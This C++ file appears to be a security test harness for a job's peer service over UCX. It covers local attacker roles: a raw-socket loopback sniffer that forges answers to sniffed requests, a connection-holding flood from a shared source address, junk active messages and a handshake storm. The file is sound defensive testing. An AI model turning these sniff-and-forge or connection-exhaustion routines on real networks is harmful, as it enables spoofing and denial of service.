// Attacks on the peer service by (b) another user on a node of the job, (c)
// a stranger who reads and writes the job's network, (d) unusual honest
// situations: real processes, real UCX (TCP); the attacker is always another
// process. Each scenario prints what it measured; forged-refusal asserts its
// promise (exit 0; 77 without CAP_NET_RAW) and is the ctest
// peers.AnswersForgedByATrafficReaderAreDropped.
//
//   monarch_peers_attacks forged-refusal
//       (c) a listener on the job's network (here: AF_PACKET on lo, needs
//       CAP_NET_RAW) learns a caller's worker address from its Proof and the
//       session and call ids of its requests, and answers each request first
//       with an answer it cannot sign: every call is still served (the
//       forged answers are dropped before they touch the call).
//   monarch_peers_attacks election-forged
//       The same listener against the election: node 1 asks node 0 (alive,
//       answering "pending") for the index; nothing is final, node 1 does
//       not walk.
//   monarch_peers_attacks election-same-address
//       (b) another user on node 1, without the key, connects to node 0's
//       front door from node 1's address and holds the connections: node 1's
//       own handshakes are evicted as that address's oldest; node 0 is put
//       out after the patience and node 1 walks too.
//   monarch_peers_attacks handshakes none|SOURCE
//       Fresh handshakes from 127.0.0.1 for 5 s while `hold` runs from
//       SOURCE (127.0.0.1: the caller's own address).
//   monarch_peers_attacks divergent-names
//       (d) A node whose own name resolves, on itself, to 127.0.1.1 (and to
//       its interface's address elsewhere): unreachable both ways.
//   monarch_peers_attacks unknown-am COUNT
//       (c) COUNT active messages of unregistered ids to a stager's worker:
//       what the stager writes to stderr.
//   monarch_peers_attacks storm N
//       (d) N callers from N addresses handshake with one stager at once
//       (a job's nodes after node 0's stager restarted): how many get
//       `unreachable` at first, and how long until all are served.
//
// Attacker roles (started by the scenarios): sniff-forge SECONDS DOOR (only
// the sessions the front door at port DOOR gives: nothing else on the
// machine is attacked),
// hold HOST PORT SOURCE SECONDS.
#include <arpa/inet.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <ucp/api/ucp.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <deque>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "counters.h"
#include "jobwide.h"
#include "peers.h"

#include "free_port.h"

extern char** environ;

namespace {

using namespace monarch;
using namespace monarch::peers;
using Clock = std::chrono::steady_clock;
const std::string kKey = "job-review3-secret";
const char* self_path = nullptr;

long ms_since(Clock::time_point t) {
  return long(std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - t).count());
}

struct Child {
  pid_t pid = -1;
  std::string line;
  void stop() {
    if (pid > 0) kill(pid, SIGKILL), waitpid(pid, nullptr, 0);
    pid = -1;
  }
};

// Runs a program, returns once it printed its first line (or 10 s passed).
Child spawn(const char* path, std::vector<std::string> args) {
  Child c;
  int out[2];
  if (pipe2(out, O_CLOEXEC) != 0) return c;
  posix_spawn_file_actions_t actions;
  posix_spawn_file_actions_init(&actions);
  posix_spawn_file_actions_adddup2(&actions, out[1], 1);
  std::vector<char*> argv{const_cast<char*>(path)};
  for (auto& a : args) argv.push_back(a.data());
  argv.push_back(nullptr);
  if (posix_spawn(&c.pid, path, &actions, nullptr, argv.data(), environ) != 0) c.pid = -1;
  posix_spawn_file_actions_destroy(&actions);
  close(out[1]);
  pollfd p{out[0], POLLIN, 0};
  char line[16384] = {};
  if (c.pid > 0 && poll(&p, 1, 10000) == 1 && read(out[0], line, sizeof line - 1) > 0)
    c.line = line;
  close(out[0]);
  return c;
}

// The machine's first IPv4 address outside the loopback, and its interface
// (UCX serves a worker only at an interface's address).
std::pair<std::string, std::string> other_ipv4() {
  ifaddrs* list = nullptr;
  std::pair<std::string, std::string> out;
  if (getifaddrs(&list) != 0) return out;
  for (ifaddrs* i = list; i && out.first.empty(); i = i->ifa_next)
    if (i->ifa_addr && i->ifa_addr->sa_family == AF_INET && (i->ifa_flags & IFF_UP) &&
        (i->ifa_flags & IFF_RUNNING) && !(i->ifa_flags & IFF_LOOPBACK)) {
      char text[INET_ADDRSTRLEN];
      inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, text, sizeof text);
      out = {i->ifa_name, text};
    }
  freeifaddrs(list);
  return out;
}

// ---------------------------------------------------------------- attackers

// (c) A listener on the network: reads every packet on lo, learns callers'
// worker addresses from their Proofs and (session, call) from their
// requests, and sends each request's caller an answer it cannot sign.
// A UCX worker of the attacker's own (active messages, one thread), or null.
ucp_worker_h stranger_worker() {
  ucp_config_t* config = nullptr;
  ucp_context_h context = nullptr;
  ucp_worker_h worker = nullptr;
  ucp_params_t params{};
  params.field_mask = UCP_PARAM_FIELD_FEATURES;
  params.features = UCP_FEATURE_AM;
  ucp_worker_params_t wp{};
  wp.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
  wp.thread_mode = UCS_THREAD_MODE_SINGLE;
  if (ucp_config_read(nullptr, nullptr, &config) != UCS_OK) return nullptr;
  bool made = ucp_init(&params, config, &context) == UCS_OK &&
              ucp_worker_create(context, &wp, &worker) == UCS_OK;
  ucp_config_release(config);
  return made ? worker : nullptr;
}

int sniff_forge(int seconds, uint16_t door) {
  int ps = socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK, htons(ETH_P_ALL));
  if (ps < 0) {
    printf("no packet socket: %s\n", strerror(errno));
    return 1;
  }
  sockaddr_ll ll{};
  ll.sll_family = AF_PACKET;
  ll.sll_protocol = htons(ETH_P_ALL);
  ll.sll_ifindex = int(if_nametoindex("lo"));
  if (bind(ps, reinterpret_cast<sockaddr*>(&ll), sizeof ll) != 0) return 1;
  ucp_worker_h worker = stranger_worker();
  if (!worker) return 1;
  printf("sniffing\n");
  fflush(stdout);

  std::map<std::string, ucp_ep_h> callers;  // worker address -> our endpoint to it
  ucp_ep_h latest = nullptr;                // the caller whose Proof we saw last
  std::set<uint64_t> sessions;              // given by `door`'s Welcomes: the only ones attacked
  std::set<std::pair<uint64_t, uint64_t>> forged;
  std::deque<wire::AnswerHeader> headers;  // alive until UCX sent them
  static const char payload[] = "forged";
  auto until = Clock::now() + std::chrono::seconds(seconds);
  std::vector<unsigned char> packet(65536);
  uint32_t magic = wire::kMagic;
  while (Clock::now() < until) {
    ssize_t n = recv(ps, packet.data(), packet.size(), 0);
    if (n <= 0) {
      if (ucp_worker_progress(worker) == 0) usleep(20);
      continue;
    }
    if (size_t(n) < sizeof(iphdr)) continue;
    auto* ip = reinterpret_cast<iphdr*>(packet.data());
    if (ip->version != 4 || ip->protocol != IPPROTO_TCP) continue;
    size_t at = ip->ihl * 4u;
    if (size_t(n) < at + sizeof(tcphdr)) continue;
    auto* tcp = reinterpret_cast<tcphdr*>(packet.data() + at);
    bool to_door = ntohs(tcp->dest) == door, from_door = ntohs(tcp->source) == door;
    at += tcp->doff * 4u;
    const unsigned char* p = packet.data() + at;
    size_t size = size_t(n) > at ? size_t(n) - at : 0;
    for (size_t i = 0; i + 8 <= size; ++i) {
      if (memcmp(p + i, &magic, 4) != 0) continue;
      uint32_t second;
      memcpy(&second, p + i + 4, 4);
      // A Proof: an address length, an identity of letters, then the address.
      wire::Proof proof;
      std::string_view who;
      if (to_door && second >= 1 && second <= wire::kMaxAddress &&
          i + sizeof proof + second <= size &&
          wire::decode_proof_head(p + i, sizeof proof, proof) && wire::proof_identity(proof, who) &&
          std::all_of(who.begin(), who.end(), [](char c) { return isprint(c); })) {
        std::string address(reinterpret_cast<const char*>(p + i + sizeof proof), second);
        auto& ep = callers[address];
        if (!ep) {
          ucp_ep_params_t ep_params{};
          ep_params.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS;
          ep_params.address = reinterpret_cast<const ucp_address_t*>(address.data());
          if (ucp_ep_create(worker, &ep_params, &ep) != UCS_OK) ep = nullptr;
          fprintf(stderr, "sniff: the Proof of %.*s\n", int(who.size()), who.data());
        }
        latest = ep;
        continue;
      }
      wire::Welcome w;
      if (from_door && i + sizeof w <= size && wire::decode_welcome_head(p + i, sizeof w, w)) {
        sessions.insert(w.session);
        continue;
      }
      // A request: magic, 0, session, call, seq (small), MAC.
      wire::RequestHeader h;
      if (second != 0 || i + sizeof h > size) continue;
      memcpy(&h, p + i, sizeof h);
      if (!sessions.count(h.session) || h.seq == 0 || h.seq > (1u << 20) || !latest) continue;
      if (!forged.insert({h.session, h.call}).second) continue;
      headers.push_back({wire::kMagic, wire::kAnswerOk, h.session, h.call, {}});
      ucp_request_param_t rp{};
      ucs_status_ptr_t r = ucp_am_send_nbx(latest, wire::kAnswerAm, &headers.back(),
                                           sizeof headers.back(), payload, 6, &rp);
      if (UCS_PTR_IS_PTR(r)) ucp_request_free(r);
      while (headers.size() > 4096) headers.pop_front();
      if (const char* count = getenv("MONARCH_FORGED_COUNT")) {
        char text[32];  // fixed width, rewritten in place: never read half-written
        int n = snprintf(text, sizeof text, "%020zu\n", forged.size());
        int fd = open(count, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        if (fd >= 0) (void)!pwrite(fd, text, size_t(n), 0), close(fd);
      }
    }
  }
  fprintf(stderr, "sniff: %zu answers forged\n", forged.size());
  return 0;
}

// (b) Another user on a node of the job, without the key: connections to
// HOST:PORT from SOURCE (its node's address), held open, as fast as they go;
// each thread keeps its last 8 and closes the one before.
int hold(const std::string& host, uint16_t port, const std::string& source, int seconds) {
  printf("holding\n");
  fflush(stdout);
  auto until = Clock::now() + std::chrono::seconds(seconds);
  std::atomic<uint64_t> opened{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 2; ++t)
    threads.emplace_back([&] {
      std::deque<int> held;
      sockaddr_in to{.sin_family = AF_INET, .sin_port = htons(port)};
      sockaddr_in from{.sin_family = AF_INET, .sin_port = 0};
      inet_pton(AF_INET, host.c_str(), &to.sin_addr);
      inet_pton(AF_INET, source.c_str(), &from.sin_addr);
      while (Clock::now() < until) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (bind(fd, reinterpret_cast<sockaddr*>(&from), sizeof from) != 0 ||
            connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) {
          close(fd);
          usleep(1000);
          continue;
        }
        ++opened;
        held.push_back(fd);
        if (held.size() > 8) close(held.front()), held.pop_front();
      }
      for (int fd : held) close(fd);
    });
  for (auto& t : threads) t.join();
  fprintf(stderr, "hold: %llu connections opened\n", (unsigned long long)opened.load());
  return 0;
}

// (c) Active messages of ids Peers never registered, to a stager's worker
// (its address travels in clear): does UCX log each one on the stager's
// stderr?
int unknown_am(int count) {
  setenv("UCX_TLS", "tcp", 1);
  setenv("UCX_NET_DEVICES", "lo", 1);
  char path[] = "/tmp/poc-review3-stderr-XXXXXX";
  int log = mkstemp(path);
  int saved = dup(2);
  dup2(log, 2);  // the server inherits it
  Child server = spawn(MONARCH_PEERS_PEER, {"0", kKey});
  dup2(saved, 2);
  std::string hex_address;
  std::istringstream(server.line) >> hex_address >> hex_address >> hex_address;
  std::string address;
  for (size_t i = 0; i + 1 < hex_address.size(); i += 2)
    address += char(std::stoi(hex_address.substr(i, 2), nullptr, 16));
  ucp_worker_h worker = address.empty() ? nullptr : stranger_worker();
  if (!worker) return 1;
  ucp_ep_params_t ep_params{};
  ep_params.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS;
  ep_params.address = reinterpret_cast<const ucp_address_t*>(address.data());
  ucp_ep_h ep = nullptr;
  if (ucp_ep_create(worker, &ep_params, &ep) != UCS_OK) return 1;
  static const char junk[64] = {};
  for (int i = 0; i < count; ++i) {
    ucp_request_param_t rp{};
    ucs_status_ptr_t r = ucp_am_send_nbx(ep, 3 + unsigned(i % 60), junk, 8, junk, 64, &rp);
    if (UCS_PTR_IS_PTR(r)) ucp_request_free(r);
    for (int k = 0; k < 10 && ucp_worker_progress(worker); ++k) {
    }
  }
  auto until = Clock::now() + std::chrono::seconds(2);
  while (Clock::now() < until) ucp_worker_progress(worker);
  server.stop();
  off_t size = lseek(log, 0, SEEK_END);
  char head[400] = {};
  pread(log, head, sizeof head - 1, 0);
  printf("%d messages of unregistered ids: the stager's stderr holds %lld bytes; it begins: %s\n",
         count, (long long)size, head);
  close(log);
  unlink(path);
  return 0;
}

// ---------------------------------------------------------------- scenarios

std::unique_ptr<Peers> caller_at(const std::string& address) {
  std::string error;
  auto p = Peers::start(
      {.bind_address = address, .key = kKey, .identity = address},
      [](std::vector<char>, Reply reply) { reply.fail("caller only"); }, error);
  if (!p) fprintf(stderr, "caller: %s\n", error.c_str());
  return p;
}

void tally(const char* what, std::map<std::string, int>& outcomes) {
  printf("%s:", what);
  for (auto& [k, v] : outcomes) printf("  %d x %s", v, k.c_str());
  printf("\n");
  fflush(stdout);
}

int forged_refusal() {
  setenv("UCX_TLS", "tcp", 1);
  setenv("UCX_NET_DEVICES", "lo", 1);
  Child server = spawn(MONARCH_PEERS_PEER, {"0", kKey});
  uint16_t port = 0;
  std::istringstream(server.line.substr(5)) >> port;
  if (!port) return fprintf(stderr, "no server\n"), 1;
  auto caller = caller_at("127.0.0.1");
  std::vector<char> reply;
  std::map<std::string, int> before;
  for (int i = 0; i < 5; ++i) {
    Status s = caller->call("127.0.0.1", port, "s300", reply, 3000, 1024);
    before[std::string(to_string(s.code)) + (s.ok() ? "" : " (" + s.text + ")")]++;
  }
  tally("no listener, 5 calls answered after 300 ms", before);
  caller.reset();  // a new caller: its Proof passes the listener
  std::string count = "/tmp/monarch-forged-" + std::to_string(getpid());
  setenv("MONARCH_FORGED_COUNT", count.c_str(), 1);
  Child attacker = spawn(self_path, {"sniff-forge", "60", std::to_string(port)});
  if (attacker.line.rfind("no packet socket", 0) == 0) {
    printf("skipped: %s", attacker.line.c_str());  // not root: no CAP_NET_RAW
    return 77;
  }
  if (attacker.line != "sniffing\n") return fprintf(stderr, "%s\n", attacker.line.c_str()), 1;
  caller = caller_at("127.0.0.1");
  std::map<std::string, int> slow, fast;
  for (int i = 0; i < 5; ++i) {
    Status s = caller->call("127.0.0.1", port, "s300", reply, 3000, 1024);
    slow[std::string(to_string(s.code)) + (s.ok() ? "" : " (" + s.text + ")")]++;
  }
  tally("listener forging, 5 calls answered after 300 ms", slow);
  auto forged = [&] {
    unsigned long n = 0;
    if (FILE* f = fopen(count.c_str(), "r")) {
      if (fscanf(f, "%lu", &n) != 1) n = 0;
      fclose(f);
    }
    return n;
  };
  unsigned long forged_slow = forged();
  for (int i = 0; i < 200; ++i) {
    Status s = caller->call("127.0.0.1", port, "eok", reply, 1000, 1024);
    fast[std::string(to_string(s.code)) + (s.ok() ? "" : " (" + s.text + ")")]++;
  }
  tally("listener forging, 200 calls answered at once", fast);
  caller.reset();
  attacker.stop();
  server.stop();
  unsigned long forged_all = forged();
  unlink(count.c_str());
  printf("answers forged: %lu to the slow calls, %lu in all\n", forged_slow, forged_all);
  // The promise: every call served, though the listener answered first (a
  // slow call's forged answer always comes before the genuine one; the
  // listener may miss a request under load, and races the fast ones).
  bool served = slow.size() == 1 && slow.count("ok") && fast.size() == 1 && fast.count("ok");
  return served && forged_slow >= 3 ? 0 : 1;
}

struct Election {
  std::vector<std::string> nodes;
  uint16_t port = free_port();
  std::atomic<uint64_t> c0[kNumStagerCounters] = {}, c1[kNumStagerCounters] = {};
  std::unique_ptr<JobWide> n0, n1;
  bool start() {
    auto [iface, address] = other_ipv4();
    if (address.empty()) return fprintf(stderr, "no IPv4 address outside lo\n"), false;
    setenv("UCX_TLS", "tcp", 1);
    setenv("UCX_NET_DEVICES", ("lo," + iface).c_str(), 1);
    nodes = {"127.0.0.1", address};
    std::string error;
    for (int i : {0, 1}) {
      auto& n = i == 0 ? n0 : n1;
      n = JobWide::start({.nodes = nodes,
                          .self = i,
                          .port_low = port,
                          .port_high = port,
                          .address = nodes[i],
                          .key = kKey,
                          .timeout_ms = 1000},
                         i == 0 ? c0 : c1, error);
      if (!n) return fprintf(stderr, "node %d: %s\n", i, error.c_str()), false;
    }
    return true;
  }
  // A new node 1: its sessions are made again.
  bool restart_node1() {
    n1.reset();
    std::string error;
    n1 = JobWide::start({.nodes = nodes,
                         .self = 1,
                         .port_low = port,
                         .port_high = port,
                         .address = nodes[1],
                         .key = kKey,
                         .timeout_ms = 1000},
                        c1, error);
    if (!n1) fprintf(stderr, "node 1: %s\n", error.c_str());
    return bool(n1);
  }
  // Node 1 asks node 0 for the index for `ms` (node 0 is alive and walking:
  // it answers "pending").
  void ask(const char* what, uint64_t ms) {
    std::string why;
    bool final = false;
    auto t = Clock::now();
    auto index = n1->fetch_index(ms, why, final);
    printf(
        "%s: after %ld ms: index %s, final %d, node 1 walks %d, node 0 failed in node 1's view "
        "%llu; why: %s\n",
        what, ms_since(t), index ? "received" : "none", int(final), int(n1->walks()),
        (unsigned long long)c1[s_peers_failed].load(), why.c_str());
    fflush(stdout);
  }
};

int election_forged() {
  Election e;
  if (!e.start()) return 1;
  e.ask("no listener, node 1 asks 6 s", 6000);
  Child attacker = spawn(self_path, {"sniff-forge", "60", std::to_string(e.port)});
  if (attacker.line != "sniffing\n") return fprintf(stderr, "%s\n", attacker.line.c_str()), 1;
  // Node 1's session with node 0 was made before the listener: a restarted
  // node 1 (or any new session) shows its Proof.
  if (!e.restart_node1()) return 1;
  e.ask("listener forging, node 1 asks up to 20 s", 20000);
  attacker.stop();
  return 0;
}

int election_same_address() {
  Election e;
  if (!e.start()) return 1;
  e.ask("nobody holding, node 1 asks 6 s", 6000);
  Child attacker = spawn(self_path, {"hold", e.nodes[0], std::to_string(e.port), e.nodes[1], "30"});
  if (attacker.line != "holding\n") return 1;
  // Node 1 restarted (or its session ended): it needs a new handshake.
  if (!e.restart_node1()) return 1;
  e.ask("another user on node 1 holding connections to node 0, node 1 asks up to 20 s", 20000);
  attacker.stop();
  return 0;
}

// Fresh handshakes from 127.0.0.1 for 5 s, each a new caller, while
// another user holds connections to the same stager from SOURCE.
int handshakes(const std::string& source) {
  setenv("UCX_TLS", "tcp", 1);
  setenv("UCX_NET_DEVICES", "lo", 1);
  Child server = spawn(MONARCH_PEERS_PEER, {"0", kKey});
  uint16_t port = 0;
  std::istringstream(server.line.substr(5)) >> port;
  if (!port) return 1;
  Child attacker;
  if (source != "none") {
    attacker = spawn(self_path, {"hold", "127.0.0.1", std::to_string(port), source, "30"});
    if (attacker.line != "holding\n") return 1;
  }
  std::map<std::string, int> outcomes;
  auto t0 = Clock::now();
  while (ms_since(t0) < 5000) {
    auto fresh = caller_at("127.0.0.1");
    std::vector<char> reply;
    Status s = fresh->call("127.0.0.1", port, "eok", reply, 1000, 1024);
    outcomes[std::string(to_string(s.code)) + (s.ok() ? "" : " (" + s.text + ")")]++;
  }
  tally(("fresh handshakes from 127.0.0.1 for 5 s, connections held from " + source).c_str(),
        outcomes);
  attacker.stop();
  server.stop();
  return 0;
}

// Node A's name resolves, on A itself, to 127.0.1.1 (Debian's /etc/hosts
// default for a host without a static address), and to A's address O
// elsewhere; node B is at 127.0.0.1 for everyone. Each node listens at its
// own name's address (the stager's default without --peer-address) and
// checks callers against its own view (Options::hosts, as resolve_nodes
// gives them). Then with consistent names (A's own view: O) for contrast.
int divergent_names() {
  auto [iface, other] = other_ipv4();
  if (other.empty()) return fprintf(stderr, "no IPv4 address outside lo\n"), 1;
  setenv("UCX_TLS", "tcp", 1);
  setenv("UCX_NET_DEVICES", ("lo," + iface).c_str(), 1);
  for (std::string a_own : {std::string("127.0.1.1"), other}) {
    std::string error;
    auto node = [&](const std::string& bind, const std::string& name,
                    std::map<std::string, std::string> hosts) {
      auto p = Peers::start(
          {.bind_address = bind, .key = kKey, .identity = name, .hosts = std::move(hosts)},
          [](std::vector<char> r, Reply reply) { reply.send(std::move(r)); }, error);
      if (!p) fprintf(stderr, "%s: %s\n", name.c_str(), error.c_str());
      return p;
    };
    auto a = node(a_own, "nodeA", {{"nodeA", a_own}, {"nodeB", "127.0.0.1"}});
    auto b = node("127.0.0.1", "nodeB", {{"nodeA", other}, {"nodeB", "127.0.0.1"}});
    if (!a || !b) return 1;
    std::vector<char> reply;
    Status ab = a->call("nodeB", b->port(), "x", reply, 2000, 1024);
    Status ba = b->call("nodeA", a->port(), "x", reply, 2000, 1024);
    printf("nodeA's name on nodeA: %s: A calls B: %s (%s); B calls A: %s (%s)\n", a_own.c_str(),
           to_string(ab.code), ab.text.c_str(), to_string(ba.code), ba.text.c_str());
    fflush(stdout);
  }
  return 0;
}

// N callers at 127.0.0.(10+i), all at once, each calling until served.
int storm(int n) {
  setenv("UCX_TLS", "tcp", 1);
  setenv("UCX_NET_DEVICES", "lo", 1);
  Child server = spawn(MONARCH_PEERS_PEER, {"0", kKey});
  uint16_t port = 0;
  std::istringstream(server.line.substr(5)) >> port;
  if (!port) return 1;
  std::vector<std::unique_ptr<Peers>> callers;
  for (int i = 0; i < n; ++i) callers.push_back(caller_at("127.0.0." + std::to_string(10 + i)));
  std::atomic<int> go{0}, first_failed{0}, never{0};
  std::vector<long> took(size_t(n), 0);
  std::map<std::string, int> first;
  std::mutex m;
  std::vector<std::thread> threads;
  auto t0 = Clock::now() + std::chrono::milliseconds(300);
  for (int i = 0; i < n; ++i)
    threads.emplace_back([&, i] {
      std::this_thread::sleep_until(t0);
      std::vector<char> reply;
      for (int attempt = 0;; ++attempt) {
        Status s = callers[size_t(i)]->call("127.0.0.1", port, "eok", reply, 1000, 1024);
        if (attempt == 0) {
          std::lock_guard l(m);
          first[std::string(to_string(s.code)) + (s.ok() ? "" : " (" + s.text + ")")]++;
        }
        if (s.ok()) break;
        if (Clock::now() - t0 > std::chrono::seconds(10)) {
          ++never;
          break;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(20));  // fetch_index's retry
      }
      took[size_t(i)] = ms_since(t0);
    });
  for (auto& t : threads) t.join();
  long worst = 0;
  for (long t : took) worst = std::max(worst, t);
  tally(("storm of " + std::to_string(n) + " callers, first calls").c_str(), first);
  printf("all served within %ld ms; never served in 10 s: %d\n", worst, never.load());
  callers.clear();
  server.stop();
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  self_path = argv[0];
  std::string mode = argc > 1 ? argv[1] : "";
  if (mode == "sniff-forge" && argc == 4)
    return sniff_forge(std::stoi(argv[2]), uint16_t(std::stoi(argv[3])));
  if (mode == "hold" && argc == 6)
    return hold(argv[2], uint16_t(std::stoi(argv[3])), argv[4], std::stoi(argv[5]));
  if (mode == "forged-refusal") return forged_refusal();
  if (mode == "election-forged") return election_forged();
  if (mode == "election-same-address") return election_same_address();
  if (mode == "handshakes" && argc == 3) return handshakes(argv[2]);
  if (mode == "divergent-names") return divergent_names();
  if (mode == "unknown-am" && argc == 3) return unknown_am(std::stoi(argv[2]));
  if (mode == "storm" && argc == 3) return storm(std::stoi(argv[2]));
  fprintf(stderr, "usage: %s forged-refusal | election-forged | election-same-address | storm N\n",
          argv[0]);
  return 2;
}
